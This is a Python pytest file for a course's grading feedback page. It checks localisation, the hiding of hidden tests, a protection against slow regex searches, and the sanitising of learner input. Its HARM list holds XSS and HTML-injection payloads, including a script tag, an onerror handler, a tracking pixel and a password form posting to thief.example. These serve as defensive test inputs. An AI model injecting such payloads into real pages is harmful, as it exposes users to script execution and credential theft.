"""The feedback page: the learner's language, their points and their own work; no code they did not write, no harm."""

from __future__ import annotations

import re
from decimal import Decimal
from typing import Any

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat import NotebookNode

from course.grading.feedback import FILTERS, TEMPLATES, clean, graded_cells, page_prose, without_hidden_tests
from course.locale import Language
from course.tasks.mark import Item, Mark, Outcome

HARM = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
    '<img src="https://tracker.example/pixel.png">',
    "<style>main { display: none }</style>",
    '<div style="position:fixed;inset:0">100 of 40 points</div>',
    "<iframe src='data:text/html,hello'></iframe>",
    '<form action="https://thief.example"><input name="password"></form>',
]


def cell(source: str, outputs: list[NotebookNode], **known: Any) -> NotebookNode:
    made = nbformat.v4.new_code_cell(source, outputs=outputs)
    made.metadata.nbgrader = NotebookNode(known)
    return made


def html_output(html: str) -> NotebookNode:
    return nbformat.v4.new_output("execute_result", {"text/html": html, "text/plain": "3"}, execution_count=1)


def page(language: Language, comment: str = "No response.", html: str = "<b>right</b>", late: float = 0) -> str:
    task = cell("task('a', 'en')", [html_output("<table><tr><td>my answer</td></tr></table>")], solution=True)
    task.metadata.nbgrader["comment"] = comment
    test = cell("check()\n### BEGIN HIDDEN TESTS\nmark('a')\n### END HIDDEN TESTS", [html_output(html)])
    test.metadata.nbgrader.update(grade=True, grade_id="april", score=12.5, points=16.0)
    for folded in (task, test):
        folded.metadata.jupyter = NotebookNode(source_hidden=True)
    code = cell("total = 1\n### BEGIN HIDDEN TESTS\nassert secret == 42\n### END HIDDEN TESTS", [])
    code.metadata.nbgrader.update(grade=True, grade_id="code", score=1.0, points=2.0)
    heading = nbformat.v4.new_markdown_cell("## The vouchers (16 points)\n\n" + html)
    return as_page([heading, task, test, code], language, late)


def as_page(cells: list[NotebookNode], language: Language, late: float = 0) -> str:
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata.update(title="April & May", backoffice={"language": language})
    exporter = HTMLExporter(template_name="backoffice", extra_template_basedirs=[str(TEMPLATES)], filters=FILTERS)
    resources = {"nbgrader": {"score": 13.5 - late, "max_score": 18.0, "late_penalty": late}}
    return str(exporter.from_notebook_node(notebook, resources=resources)[0])


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("en", ['lang="en"', "12.5 of 16 points", "What you handed in", "13.5 of 18 points"]),
        ("de", ['lang="de"', "12,5 von 16 Punkten", "Ihre Abgabe", "13,5 von 18 Punkten"]),
    ],
)
def test_it_speaks_the_learners_language(language: Language, words: list[str]) -> None:
    shown = page(language)
    assert all(word in shown for word in words)
    assert "<title>April &amp; May</title>" in shown


def test_it_shows_the_work_and_the_reasons_but_no_code_of_a_task_and_no_hidden_test() -> None:
    shown = page("en")
    assert "my answer" in shown
    assert "<b>right</b>" in shown
    assert '<a href="#april">The vouchers</a>' in shown
    assert "total = 1" in shown, "code that a learner wrote is shown"
    assert not any(word in shown for word in ("HIDDEN", "mark(", "secret", "task(", "No response."))


def test_a_teachers_comment_and_a_late_penalty_are_shown() -> None:
    assert "Look at <strong>B-12</strong>" in page("en", comment="Look at **B-12**")
    assert "Verspätet abgegeben" in page("de", late=2.0)
    assert "Verspätet" not in page("de")


@pytest.mark.parametrize("harm", HARM)
def test_nothing_that_a_learner_put_in_runs_or_loads_or_covers_the_page(harm: str) -> None:
    shown = page("en", comment=harm, html=harm).split("<main>")[1]
    for word in ("<script", "onerror", "javascript:", "https://", "<style", "style=", "<iframe", "<form", "<input"):
        assert word not in shown


def test_a_picture_inside_the_page_stays() -> None:
    assert clean(page_prose("![a box](data:image/svg+xml;base64,AAAA)")) == (
        '<p><img src="data:image/svg+xml;base64,AAAA" alt="a box"></p>\n'
    )


def test_text_that_was_made_to_be_searched_for_hours_is_searched_at_once() -> None:
    """A search that begins anew at every place would outlast any test's limit of time."""
    marks = "### BEGIN HIDDEN TESTS\n" * 100_000
    assert without_hidden_tests(marks) == marks
    both = "a\n### BEGIN HIDDEN TESTS\nassert secret\n### END HIDDEN TESTS\nb\n"
    assert without_hidden_tests(both * 3 + marks) == "a\nb\n" * 3 + marks
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# a" + " " * 1_000_000 + "b")])
    notebook.cells.append(cell("", [], grade=True, grade_id="x", score=1, points=2))
    (found,) = graded_cells(notebook)
    assert found.title.endswith(" b")


def graded(task: str, score: float, of: float, *said: str) -> list[NotebookNode]:
    """A heading and the graded cell of a task, with these explanations in its mark."""
    items = [Item(why, "A cell", Decimal(0), Decimal(1), Outcome.WRONG, message=why) for why in said]
    html = Mark("Task", tuple(items), Decimal(len(items)), "en")._repr_html_()
    made = cell("mark()", [html_output(html)], grade=True, grade_id=task, score=score, points=of)
    made.metadata.jupyter = NotebookNode(source_hidden=True)
    return [nbformat.v4.new_markdown_cell(f"## {task} ({of:.0f} points)"), made]


def first_seen(language: Language, *tasks: list[NotebookNode]) -> str:
    """What stands above the table of points, with its scores."""
    notebook = nbformat.v4.new_notebook(cells=[one for task in tasks for one in task])
    notebook.metadata.update(title="June", backoffice={"language": language})
    exporter = HTMLExporter(template_name="backoffice", extra_template_basedirs=[str(TEMPLATES)], filters=FILTERS)
    resources = {"nbgrader": {"score": 1, "max_score": 10, "late_penalty": 0}}
    return (
        str(exporter.from_notebook_node(notebook, resources=resources)[0]).partition("<main>")[2].partition("<tab")[0]
    )


def test_first_is_said_what_cost_the_most_why_and_where_it_is_practised() -> None:
    small, large = graded("cash-book", 5.5, 6, "A trifle."), graded("april-vouchers", 2, 16, "Sides swapped.", "Else.")
    seen = first_seen("en", small, graded("trial-balance", 6, 6), large)
    assert re.findall(r'href="#([a-z-]+)"', seen) == ["april-vouchers", "cash-book"]
    assert "14 of 16 points are missing" in seen
    assert "Sides swapped." in seen
    assert "Else." not in seen
    assert "To practise: “Five vouchers” in the lesson “Bookkeeping”" in seen
    assert "Zum Üben: „Fünf Belege“ in der Lektion „Buchführung“" in first_seen("de", large)


def test_no_more_than_three_tasks_come_first_and_none_if_nothing_was_lost() -> None:
    many = [graded(f"task-{lost}", 10 - lost, 10) for lost in (1, 4, 2, 3)]
    seen = first_seen("en", *many)
    assert re.findall(r'href="#(task-.)"', seen) == ["task-4", "task-3", "task-2"]
    assert "To practise" not in seen, "of somebody else's assignment the course knows no lesson"
    assert "Look at this first" not in first_seen("en", graded("cash-book", 6, 6))


def test_harm_in_a_reason_does_not_reach_the_top_of_the_page() -> None:
    folded = graded("april-vouchers", 0, 16)
    folded[1].outputs = [html_output(f'<span class="bo-why">{"".join(HARM)}</span>')]
    seen = first_seen("en", folded)
    assert "100 of 40 points" in seen, "what is said is left"
    for word in ("<script", "onerror", "javascript:", "https://", "<style", "style=", "<iframe", "<form", "<input"):
        assert word not in seen
